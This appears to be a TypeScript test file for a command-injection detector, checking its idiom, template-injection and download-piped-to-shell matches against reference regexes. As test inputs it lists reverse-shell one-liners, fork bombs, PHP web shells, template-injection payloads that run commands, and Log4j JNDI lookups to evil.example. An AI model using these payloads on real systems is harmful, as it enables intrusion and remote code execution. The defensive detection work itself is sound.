// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads, not templates
import { describe, expect, it } from 'vitest'
import { downloadToShell } from '../../src/detect/cmd/download-exec.js'
import { forgetText, idioms, matchIdioms } from '../../src/detect/cmd/idioms.js'
import { matchEnd } from '../../src/detect/keyword-before.js'
import { flagsAndLeaves, seeded } from './helpers.js'

/**
 * The idioms are looked for from their anchors (anchors.ts), and not again in the suffix that
 * detectCmd reads from after the first quote that a separator follows (`';id;'`): generated
 * strings dense in idiom pieces hold both to the whole-text search.
 */
const PIECES = [
  "';",
  "'|",
  '"&',
  "'$",
  "'`",
  '"\n',
  '";',
  "'&&",
  "'",
  '"',
  ';',
  '|',
  '&',
  '\n',
  '`',
  '$',
  ' ',
  ' ',
  '(',
  ')',
  '{',
  '}',
  '<',
  '>',
  '=',
  ':',
  '-',
  '/',
  '%',
  'sh',
  'bash',
  'id',
  'cat',
  'x',
  '1',
  '-i',
  '-e',
  '-c',
  '/c',
  'nc',
  'netcat',
  'socat',
  'exec:',
  'cmd',
  'powershell',
  '-enc',
  'iex',
  'for',
  'in',
  'do',
  'if',
  'not',
  'exist',
  'errorlevel',
  'find',
  '-exec',
  'curl',
  'wget',
  'system',
  'os.popen',
  'eval',
  '/etc/passwd',
  '/dev/tcp/1.2.3.4/80',
  'c:\\boot.ini',
  '.php',
  'invoke-',
  'iwr',
  '${',
  'sleep',
  '<!--#exec cmd=',
  '&1',
  'f',
  ':',
  'ba',
  'type',
  '&(',
  '.(',
  "'i'",
  "+'ex'",
  '"{1}{0}" -f',
  '--upload-pack=',
  'core.sshcommand=',
  'proxycommand ',
  'ext::',
  'touch',
  '.sh',
]
const LIKELY = [
  'bash -i >& /dev/tcp/1.2.3.4/80 0>&1',
  'nc 1.2.3.4 80 -e /bin/sh',
  'socat tcp:x exec:sh',
  'cmd /c dir',
  'powershell -enc AAA',
  'iex (x)',
  '() { :;};',
  ':(){ :|:& };:',
  'for /f %i in (x) do y',
  'if exist x y z',
  'find . -exec id \\;',
  '${system(id)}',
  '> x.php',
  'iwr http://x',
  'curl x | sh',
  "system('id')",
  'cat /etc/passwd',
  'type c:\\boot.ini',
  'sh -i 2>&1 | nc x 1 >&0',
  'f(){ f|f& };f',
  "&('i'+'ex')",
  '--rsh=sh x',
]

/** A seeded generator of texts dense in idiom pieces. */
function texts(seed: number, count: number): string[] {
  const rand = seeded(seed)
  const out: string[] = []
  for (let r = 0; r < count; r++) {
    let s = ''
    for (let k = rand(12); k >= 0; k--)
      s += rand(12) === 0 ? LIKELY[rand(LIKELY.length)] : PIECES[rand(PIECES.length)]
    out.push(s)
  }
  return out
}

describe('command injection: idioms', () => {
  it("finds, from the anchors, what each idiom's regex finds over the whole text", () => {
    let found = 0
    for (const s of texts(5, 30000)) {
      const want = matchIdioms(s)
      forgetText()
      expect(idioms(s, 1), JSON.stringify(s)).toEqual(want)
      forgetText()
      if (want !== null) found++
    }
    // (the generator reaches idioms, and texts without one)
    expect(found).toBeGreaterThan(5000)
    expect(found).toBeLessThan(25000)
  })

  it('finds none in the suffix after a quote and a separator where the text has none', () => {
    let suffixes = 0
    let found = 0
    for (const s of texts(7, 30000)) {
      const q = /['"][;|&\n`$]/.exec(s)
      if (q === null) continue
      const whole = idioms(s, 1)
      forgetText()
      const part = idioms(s.slice(q.index + 1), 1, s)
      forgetText()
      suffixes++
      if (whole === null) expect(part, JSON.stringify(s)).toBeNull()
      else found++
    }
    // (the generator reaches idioms, and texts without one)
    expect(found).toBeGreaterThan(2000)
    expect(suffixes - found).toBeGreaterThan(2000)
  })
})

/** A PHP web shell: request input handed to a function that runs it, or PHP's backtick operator. */
describe('command injection: PHP web shells', () => {
  flagsAndLeaves(
    [
      ["<?php system($_GET['c']); ?>", 'cmd-code-exec'],
      ["<?php echo shell_exec($_GET['c']); ?>", 'cmd-code-exec'],
      ['<?=`$_GET[0]`?>', 'cmd-code-exec'],
      ["<?PHP passthru($_REQUEST['x']);", 'cmd-code-exec'],
    ],
    ['<?php echo $x; ?>', 'use <?= $title ?> in the template', "<?php include 'header.php'; ?>"],
  )
})

/**
 * Server-side template injection and the shell's pattern expansions (cmd/templates.ts): what
 * reaches the interpreter or a system file from a template, a template loop; docs' templates stay.
 */
describe('command injection: templates and pattern expansions', () => {
  flagsAndLeaves(
    [
      ['{{ get_user_file("/etc/passwd") }}', 'cmd-template-injection'],
      ['{{ get_user_file("C:\\boot.ini") }}', 'cmd-template-injection'],
      ["{{''.__class__.__mro__[1].__subclasses__()}}", 'cmd-template-injection'],
      ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", 'cmd-template-injection'],
      ["${self.__init__.__globals__['os']}", 'cmd-template-injection'],
      ['{% For c in [1,2,3]%} {{c, c, c}} {% endfor%}', 'cmd-template-injection'],
      ['${x#{}}', 'cmd-shell-evasion'],
      ['${PATH#{}/}', 'cmd-shell-evasion'],
      ['cat ${f##*.}', 'cmd-shell-evasion'],
      ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'cmd-template-injection'],
      [
        '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id")}',
        'cmd-template-injection',
      ],
      // Twig's filters handed a PHP function that runs a command, its undefined-filter callback
      ["{{['id']|filter('system')}}", 'cmd-template-injection'],
      ["{{['cat /etc/passwd']|map('passthru')|join}}", 'cmd-template-injection'],
      [
        '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
        'cmd-template-injection',
      ],
      // Razor's expression that starts a process
      ['@(System.Diagnostics.Process.Start("cmd.exe","/c id"))', 'cmd-template-injection'],
      ['@{ System.Diagnostics.Process.Start("calc"); }', 'cmd-template-injection'],
      ['@System.Diagnostics.Process.Start("calc")', 'cmd-template-injection'],
      // Log4j's JNDI lookup, plain and spelled by nested lookups
      ['${jndi:ldap://evil.example/a}', 'cmd-template-injection'],
      ['User-Agent: ${jndi:rmi://evil.example:1099/x}', 'cmd-template-injection'],
      ['${jndi:${lower:l}${lower:d}ap://evil.example/a}', 'cmd-template-injection'],
      ['${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}', 'cmd-template-injection'],
      [
        '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
        'cmd-template-injection',
      ],
    ],
    [
      'hey {{name}}, welcome',
      'use {% if user %}hi{% endif %} in the template',
      'price is {{ price * 2 }}',
      '{{ user.name }} and {{ user.email }}',
      'we use __init__ in python',
      'const s = `${a}/${b}`',
      'total: ${n % 2}',
      'echo ${HOME}',
      'see /etc/passwd {{ docs }}',
      'we use freemarker.template.utility.Execute in the docs',
      '{{ items|filter(x => x.active) }}',
      "{{ users|filter('is_active') }}",
      'use System.Diagnostics.Process.Start("notepad") to open it',
      'email me @(work) or @{x}, {{ price * 2 }} @(Model.Name)',
      'use ${jndi} in the config',
      'the log4shell bug used jndi:ldap lookups',
      '${url:http://localhost:8080}',
      '${API_URL:-http://localhost}',
    ],
    true,
  )
})

/** The download piped into a shell is found from the pipe (cmd/download-exec.ts): where its regex finds it. */
describe('command injection: a download piped into a shell', () => {
  it('finds the match of its regex, start and end, on generated texts', () => {
    const REGEX = /\b(?:curl|wget)\b[^\n|;]{1,200}\|\s*(?:ba|z|k|da)?sh\b/
    const pieces = [
      'curl ',
      'wget ',
      'xcurl ',
      'curls ',
      ' ',
      '|',
      '| ',
      ' | sh',
      '|bash',
      ' | zsh',
      'shx',
      ';',
      '\n',
      'a',
      '-s ',
      'http://x/y ',
    ]
    const rand = seeded(9)
    let found = 0
    for (let k = 0; k < 20000; k++) {
      let s = ''
      for (let j = rand(14); j >= 0; j--)
        s += rand(40) === 0 ? 'a'.repeat(190 + rand(20)) : pieces[rand(pieces.length)]
      const m = REGEX.exec(s)
      const start = downloadToShell(s)
      expect(start, JSON.stringify(s)).toBe(m ? m.index : -1)
      if (m) {
        expect(matchEnd(), JSON.stringify(s)).toBe(m.index + m[0].length)
        found++
      }
    }
    // (the generator reaches matches, and texts without one)
    expect(found).toBeGreaterThan(1000)
    expect(found).toBeLessThan(19000)
  })
})
